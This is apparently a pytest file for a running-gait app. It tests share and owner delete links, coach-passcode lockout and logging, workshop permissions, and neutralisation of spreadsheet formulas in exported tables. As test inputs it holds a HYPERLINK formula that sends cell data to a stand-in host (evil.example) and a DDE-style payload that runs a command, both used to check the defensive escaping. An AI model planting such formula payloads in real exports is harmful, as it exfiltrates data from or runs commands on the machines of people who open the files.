"""AppTest of issue 11's links and passcode: a share link only views, the owner's delete
link (shown once, to whoever saved) deletes with every kept file, old analyses without
a delete key are deleted by the coach; wrong passcodes lock out every session of the
deployment and are logged without the passcode; a too-short passcode switches coach
pages off; only the coach (or a host setting) starts workshops; table cells that a
spreadsheet would run as formulas are neutralised. Real SQLite store."""

from __future__ import annotations

import logging
import re
from datetime import date

import pandas as pd
import pytest
from sqlalchemy import update

from gait.store import schema
from gait.store.workshops import find_workshop
from tests.store_writers import small_report
from tests.test_app_saved import app, no_exception, store_for, texts
from ui import saved, state
from ui.tables import history_table, spreadsheet_safe, squad_table

PASSCODE = "correct horse battery staple"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


@pytest.fixture(autouse=True)
def data_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("HIPDRIVE_DATA_DIR", str(tmp_path / "data"))
    for name in ("HIPDRIVE_DATABASE_URL", "HIPDRIVE_COACH_PASSCODE", "HIPDRIVE_OPEN_WORKSHOPS",
                 "HIPDRIVE_PASSCODE_MAX_FAILURES", "HIPDRIVE_PASSCODE_WINDOW_MIN",
                 "HIPDRIVE_PASSCODE_LOCKOUT_MIN"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path / "data"


@pytest.fixture(scope="module")
def report():
    return small_report()


def kept_files(data_dir, report, tmp_path):
    """A saved analysis keeping both videos; returns the receipt and the kept paths."""
    raw, annotated = tmp_path / "clip.mov", tmp_path / "annotated.mp4"
    raw.write_bytes(b"\x01" * 4096)
    annotated.write_bytes(b"\x02" * 4096)
    store = store_for(data_dir)
    receipt = store.save(report, athlete_name="Ana", raw_video=raw, annotated_video=annotated)
    return receipt, list(store.load(receipt.token).files.values())


def delete_on(at, key: str):
    at.checkbox(key=f"{key}_sure").check().run()
    at.button(key=key).click().run()
    no_exception(at)
    return at


def unlock(at, passcode: str, *, form: str = "coach_login", field: str = "coach_passcode"):
    at.text_input(key=field).set_value(passcode)
    at.button(key=f"FormSubmitter:{form}-Unlock").click().run()
    no_exception(at)
    return at


# --- view and delete --------------------------------------------------------------------
def test_the_share_link_alone_cannot_delete(report, data_dir, tmp_path):
    receipt, files = kept_files(data_dir, report, tmp_path)
    at = app(params={"analysis": receipt.token})
    no_exception(at)
    assert at.metric and "Only whoever saved this analysis can delete it" in texts(at)
    assert not [b for b in at.button if b.key == "delete_shared"]
    assert not [c for c in at.checkbox if c.key == "delete_shared_sure"]
    wrong = app(params={"analysis": receipt.token, "delete": receipt.athlete_token})
    no_exception(wrong)  # a key that is not this analysis's opens read-only
    assert "does not match" in texts(wrong)
    assert not [b for b in wrong.button if b.key == "delete_shared"]
    assert store_for(data_dir).load(receipt.token) is not None
    assert all(p.exists() for p in files)


def test_the_owners_link_deletes_the_analysis_and_every_kept_file(report, data_dir,
                                                                  tmp_path):
    receipt, files = kept_files(data_dir, report, tmp_path)
    assert len(files) == 2 and all(p.exists() for p in files)
    at = app(params={"analysis": receipt.token, "delete": receipt.delete_token})
    no_exception(at)
    assert "delete" not in at.query_params  # the key leaves the address bar
    delete_on(at, "delete_shared")
    assert "this link no longer works" in texts(at)
    assert store_for(data_dir).load(receipt.token) is None
    assert not any(p.exists() for p in files)
    assert not any((data_dir / "files").iterdir())


def test_saving_shows_the_delete_link_once_and_it_works_in_another_browser(report,
                                                                           data_dir):
    result = state.make_result(report, video_path=None, file_name="run.mp4", athlete="Ida")
    at = app(results=[result], page="app_pages/results.py")
    at.button(key=f"FormSubmitter:save_form_{result.id}-Save").click().run()
    no_exception(at)
    owner_links = [c.value for c in at.code if "&delete=" in c.value]
    assert len(owner_links) == 1 and "delete link" in texts(at)
    found = re.search(r"/\?analysis=([\w-]{43})&delete=([\w-]{43})$", owner_links[0])
    token, delete_token = found.groups()
    assert delete_token != token
    assert at.session_state[state.RESULTS_KEY][0].saved.delete_token == delete_token
    other = app(params={"analysis": token, "delete": delete_token})  # a new session
    delete_on(other, "delete_shared")
    assert store_for(data_dir).load(token) is None


def test_the_saver_can_delete_from_results_in_the_same_tab(report, data_dir):
    result = state.make_result(report, video_path=None, file_name="run.mp4", athlete="Jo")
    at = app(results=[result], page="app_pages/results.py")
    at.button(key=f"FormSubmitter:save_form_{result.id}-Save").click().run()
    token = at.session_state[state.RESULTS_KEY][0].saved.token
    delete_on(at, f"delete_{result.id}")
    assert store_for(data_dir).load(token) is None
    assert at.session_state[state.RESULTS_KEY] == []  # gone from the tab too


def test_old_analyses_without_a_delete_key_are_deleted_by_the_coach(report, data_dir,
                                                                    tmp_path, monkeypatch):
    receipt, files = kept_files(data_dir, report, tmp_path)
    store = store_for(data_dir)
    with store.engine.begin() as conn:  # as saved before delete keys existed
        conn.execute(update(schema.analyses).values(delete_hash=None))
    holder = app(params={"analysis": receipt.token, "delete": receipt.delete_token})
    no_exception(holder)
    assert not [b for b in holder.button if b.key == "delete_shared"]
    assert store.load(receipt.token) is not None

    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", PASSCODE)
    coach = unlock(app(page="app_pages/squad.py"), PASSCODE)
    coach.text_input(key="coach_delete_link").set_value(
        f"https://club.example/?analysis={receipt.token}")
    delete_on(coach, "coach_delete")
    assert "Deleted" in texts(coach)
    assert store.load(receipt.token) is None and not any(p.exists() for p in files)
    coach.text_input(key="coach_delete_link").set_value("https://club.example/?analysis=nope")
    coach.button(key="coach_delete").click().run()
    assert "No saved analysis has that link" in texts(coach)
    coach.text_input(key="coach_delete_link").set_value("")
    coach.button(key="coach_delete").click().run()
    assert "Paste the analysis's link first" in texts(coach)


# --- the passcode -----------------------------------------------------------------------
def test_wrong_passcodes_lock_out_every_session_and_are_logged(data_dir, monkeypatch,
                                                               caplog):
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", PASSCODE)
    monkeypatch.setenv("HIPDRIVE_PASSCODE_MAX_FAILURES", "3")
    caplog.set_level(logging.INFO)
    guesses = ["guess-one-xyz", "guess-two-xyz", "guess-three-xyz"]
    for guess in guesses:  # each guess from a new browser session
        at = unlock(app(page="app_pages/squad.py"), guess)
        assert not at.dataframe
    assert "Too many wrong passcodes" in texts(at)
    coach = unlock(app(page="app_pages/squad.py"), PASSCODE)  # yet another session
    assert "Too many wrong passcodes" in texts(coach) and not coach.dataframe
    assert saved.COACH_KEY not in coach.session_state
    log = caplog.text
    assert log.count("wrong try") == 3 and "locked out" in log
    assert "refused during the lockout" in log
    assert not any(secret in log for secret in [*guesses, PASSCODE])


def test_a_wrong_passcode_says_how_many_tries_are_left(data_dir, monkeypatch):
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", PASSCODE)
    at = unlock(app(page="app_pages/squad.py"), "nope")
    assert "not right (4 more tries before a lockout)" in texts(at)
    unlock(at, PASSCODE)
    assert "Invite link" in [h.value for h in at.subheader]


def test_a_too_short_passcode_switches_coach_pages_off_and_is_logged(data_dir, monkeypatch,
                                                                     caplog):
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", "1234567")
    saved._log_short_passcode.cache_clear()
    caplog.set_level(logging.ERROR, logger="ui.saved")
    at = app(page="app_pages/squad.py")
    no_exception(at)
    assert "too short (7 characters; at least 8" in texts(at)
    assert not at.text_input and not at.dataframe
    assert "1234567" not in caplog.text and "has 7 characters" in caplog.text
    workshop = app(page="app_pages/workshop.py")
    assert "too short" in texts(workshop)
    assert not [b for b in workshop.button if "start_workshop" in (b.key or "")]
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", "12345678")  # 8 is enough
    unlocked = unlock(app(page="app_pages/squad.py"), "12345678")
    assert "Invite link" in [h.value for h in unlocked.subheader]


# --- starting workshops -----------------------------------------------------------------
def start_button(at):
    return [b for b in at.button if b.key == "FormSubmitter:start_workshop-Start a workshop"]


def test_workshops_are_off_for_everyone_without_a_passcode_or_the_host_setting(data_dir):
    at = app(page="app_pages/workshop.py")
    no_exception(at)
    assert "HIPDRIVE_OPEN_WORKSHOPS=1" in texts(at) and not start_button(at)


def test_only_the_coach_starts_a_workshop_when_a_passcode_is_set(data_dir, monkeypatch):
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", PASSCODE)
    at = app(page="app_pages/workshop.py")
    no_exception(at)
    assert "Only the coach can start a workshop" in texts(at) and not start_button(at)
    unlock(at, "not the passcode", form="workshop_login", field="workshop_passcode")
    assert "not right" in texts(at) and not start_button(at)
    unlock(at, PASSCODE, form="workshop_login", field="workshop_passcode")
    at.text_input(key="workshop_name").set_value("Coached")
    start_button(at)[0].click().run()
    no_exception(at)
    created = find_workshop(store_for(data_dir), host_token=at.session_state[saved.BOARD_KEY])
    assert created.name == "Coached"


def test_the_host_setting_opens_workshops_to_anyone(data_dir, monkeypatch):
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", PASSCODE)
    monkeypatch.setenv("HIPDRIVE_OPEN_WORKSHOPS", "1")
    at = app(page="app_pages/workshop.py")
    no_exception(at)
    assert start_button(at) and not [t for t in at.text_input if t.key == "workshop_passcode"]


# --- spreadsheet-safe cells -------------------------------------------------------------
@pytest.mark.parametrize(("cell", "expected"), [
    (FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ana", "Ana"), ("", ""), ("a=b", "a=b"), (-3.5, -3.5), (None, None),
])
def test_cells_a_spreadsheet_would_run_get_a_quote(cell, expected):
    assert spreadsheet_safe(cell) == expected


def test_history_and_squad_tables_are_spreadsheet_safe_and_keep_numbers(report, data_dir):
    store = store_for(data_dir)
    receipt = store.save(report, athlete_name=FORMULA, squad=True, note="@SUM(1+1)*cmd",
                         recorded_on=date(2026, 4, 1))
    history = store.history(receipt.athlete_token)
    squad = store.squad()
    history.loc[:, "thigh_extension_left_minus_right_deg"] = -4.25  # a negative figure
    link = lambda tok: f"https://club.example/?analysis={tok}"  # noqa: E731
    tables = [history_table(history, link=link),
              squad_table(squad, analysis_link=link, history_link=link)]
    assert tables[0]["note"].iloc[0] == "'@SUM(1+1)*cmd"
    assert tables[1]["athlete"].iloc[0] == "'" + FORMULA
    assert tables[0]["L − R (°)"].iloc[0] == pytest.approx(-4.2, abs=0.06)
    for table in tables:
        assert pd.api.types.is_float_dtype(table["cadence (steps/min)"])
        csv = table.to_csv(index=False)
        rows = csv.splitlines()[1:]
        assert not any(cell.lstrip('"').startswith(("=", "+", "@"))
                       for row in rows for cell in row.split(","))
    assert ",-4.2," in tables[0].to_csv(index=False)  # still a number in the CSV


def test_the_squad_page_shows_the_neutralised_name(report, data_dir, monkeypatch):
    store_for(data_dir).save(report, athlete_name=FORMULA, squad=True)
    monkeypatch.setenv("HIPDRIVE_COACH_PASSCODE", PASSCODE)
    at = unlock(app(page="app_pages/squad.py"), PASSCODE)
    assert list(at.dataframe[0].value["athlete"]) == ["'" + FORMULA]
